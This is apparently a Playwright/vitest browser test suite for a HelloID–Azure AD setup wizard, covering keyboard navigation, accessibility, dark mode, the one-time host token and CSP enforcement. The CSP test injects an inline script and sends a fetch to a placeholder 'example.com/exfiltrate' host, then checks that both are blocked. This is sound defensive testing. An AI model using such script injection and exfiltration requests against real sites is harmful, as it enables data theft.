import { join } from 'node:path'

import AxeBuilder from '@axe-core/playwright'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'

import { steps } from '../../shared/steps'
import { screenshotDir } from './browser'
import { previewInChromium } from './preview-in-chromium'
import { stepPageTexts } from './step-page-texts'

const preview = previewInChromium()

const texts = stepPageTexts

/** Presses Tab until the element with the test id has focus (bounded), proving it is keyboard-reachable. */
async function tabTo(page: Page, testId: string): Promise<void> {
  for (let i = 0; i < 40; i++) {
    if (
      (await page
        .locator(':focus')
        .getAttribute('data-testid')
        .catch(() => null)) === testId
    )
      return
    await page.keyboard.press('Tab')
  }
  throw new Error(`Could not reach ${testId} with the keyboard`)
}

describe('guided wizard in the browser preview', () => {
  it('walks all 21 steps and the tip by keyboard only, and keeps its place across a reload', async () => {
    const context = await preview.browser.newContext({ viewport: { width: 1280, height: 860 } })
    const page = await context.newPage()
    const consoleErrors: string[] = []
    page.on('console', (message) => {
      if (message.type() === 'error') consoleErrors.push(message.text())
    })
    await page.goto(preview.host.url)
    await expect
      .poll(() => page.getByTestId('step-title').textContent())
      .toBe(texts['helloid-open-azure-ad']?.title)
    // The one-time token must not stay in the address bar.
    expect(page.url()).not.toContain('token=')

    for (const [index, step] of steps.entries()) {
      const expectedNumber = step.kind === 'step' ? `Step ${step.number}` : 'Tip'
      await expect.poll(() => page.getByTestId('step-number').textContent()).toBe(expectedNumber)
      expect(await page.getByTestId('step-title').textContent()).toBe(texts[step.id]?.title)
      expect(await page.getByTestId('step-body').textContent()).toBe(texts[step.id]?.body)
      // The sign-in panel's script loads on demand (preloaded while the first screen was idle).
      if (step.id === 'azure-sign-in') await page.getByTestId('sign-in-panel').waitFor()
      else expect(await page.getByTestId('step-drawing').getAttribute('data-step')).toBe(step.id)
      // Only the HelloID-side steps take a manual mark; the others are proved by what the assistant reads.
      if (step.acceptsManualMark) {
        await tabTo(page, 'mark-done')
        await page.keyboard.press('Enter')
        await expect.poll(() => page.getByTestId('mark-done').getAttribute('aria-pressed')).toBe('true')
      }
      if (index < steps.length - 1) {
        await tabTo(page, 'next')
        await page.keyboard.press('Enter')
      }
    }
    expect(await page.getByTestId('next').isDisabled()).toBe(true)
    expect(await page.getByTestId('progress-summary').textContent()).toBe('2 of 21 steps done')

    const shots = screenshotDir()
    await page.getByTestId('rail-azure-test-connection').click()
    await expect.poll(() => page.getByTestId('step-number').textContent()).toBe('Step 15')
    await page.screenshot({ path: join(shots, 'wizard.png') })

    await page.reload()
    await expect.poll(() => page.getByTestId('step-number').textContent()).toBe('Step 15')
    expect(await page.getByTestId('progress-summary').textContent()).toBe('2 of 21 steps done')
    expect(await page.getByTestId('rail-helloid-new-secret').getAttribute('aria-current')).toBeNull()

    // A brand-new browser profile sees the same progress: it lives in the host, not in the page.
    const fresh = await preview.browser.newContext()
    const other = await fresh.newPage()
    await other.goto(preview.host.url)
    await expect.poll(() => other.getByTestId('step-number').textContent()).toBe('Step 15')
    await fresh.close()

    expect(consoleErrors).toEqual([])
    await context.close()
  })

  it('has no serious accessibility violations on the step pages', async () => {
    const context = await preview.browser.newContext()
    const page = await context.newPage()
    await page.goto(preview.host.url)
    for (const stepId of [
      'helloid-new-secret',
      'azure-sign-in',
      'azure-open-entra',
      'azure-enterprise-apps',
      'azure-create-app',
      'azure-initial-cycle',
      'troubleshoot-one-user',
    ]) {
      await page.getByTestId(`rail-${stepId}`).click()
      await expect.poll(() => page.getByTestId('step-title').isVisible()).toBe(true)
      const results = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa']).analyze()
      const serious = results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')
      expect(serious.map((v) => `${stepId}: ${v.id} (${v.nodes.length})`)).toEqual([])
    }
    await context.close()
  })

  it('follows the system in dark mode, lets the switch override it, and fits 1024×700', async () => {
    const context = await preview.browser.newContext({
      viewport: { width: 1024, height: 700 },
      colorScheme: 'dark',
    })
    const page = await context.newPage()
    await page.goto(preview.host.url)
    await expect.poll(() => page.getByTestId('step-title').isVisible()).toBe(true)
    const background = () =>
      page.evaluate<string>("getComputedStyle(document.querySelector('.fui-FluentProvider')).backgroundColor")
    const dark = await background()
    expect(await page.getByRole('switch', { name: 'Dark' }).isChecked()).toBe(true)
    // The header stays on one line and the step's Next button is on screen without scrolling.
    const header = await page.locator('header').boundingBox()
    expect(header?.height ?? 999).toBeLessThan(90)
    const nextBox = await page.getByTestId('next').boundingBox()
    expect((nextBox?.y ?? 999) + (nextBox?.height ?? 0)).toBeLessThanOrEqual(700)
    const results = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa']).analyze()
    const serious = results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')
    expect(serious.map((v) => `dark: ${v.id} (${v.nodes.length})`)).toEqual([])
    await page.screenshot({ path: join(screenshotDir(), 'dark-1024x700.png') })

    await page.getByRole('switch', { name: 'Dark' }).click()
    await expect.poll(background).not.toBe(dark)
    await context.close()
  })

  it('enforces its CSP: no inline script and no connections to other hosts', async () => {
    const context = await preview.browser.newContext()
    const page = await context.newPage()
    const violations: string[] = []
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text())
    })
    await page.goto(preview.host.url)
    await expect.poll(() => page.getByTestId('step-title').isVisible()).toBe(true)
    await page.addScriptTag({ content: 'window.__injected = true' }).catch(() => undefined)
    expect(await page.evaluate('window.__injected === true')).toBe(false)
    const remote = await page.evaluate<string>(
      "fetch('https://example.com/exfiltrate').then(() => 'reached', () => 'blocked')",
    )
    expect(remote).toBe('blocked')
    expect(violations.length).toBeGreaterThanOrEqual(2)
    await context.close()
  })

  it('refuses to work without the host token', async () => {
    const context = await preview.browser.newContext()
    const page = await context.newPage()
    await page.goto(preview.host.origin)
    await expect.poll(() => page.textContent('body')).toContain('one-time key')
    await context.close()
    // In the browser's language, like every other page.
    const dutch = await preview.browser.newContext({ locale: 'nl-NL' })
    const dutchPage = await dutch.newPage()
    await dutchPage.goto(preview.host.origin)
    await expect.poll(() => dutchPage.textContent('body')).toContain('eenmalige sleutel')
    await dutch.close()
  })
})
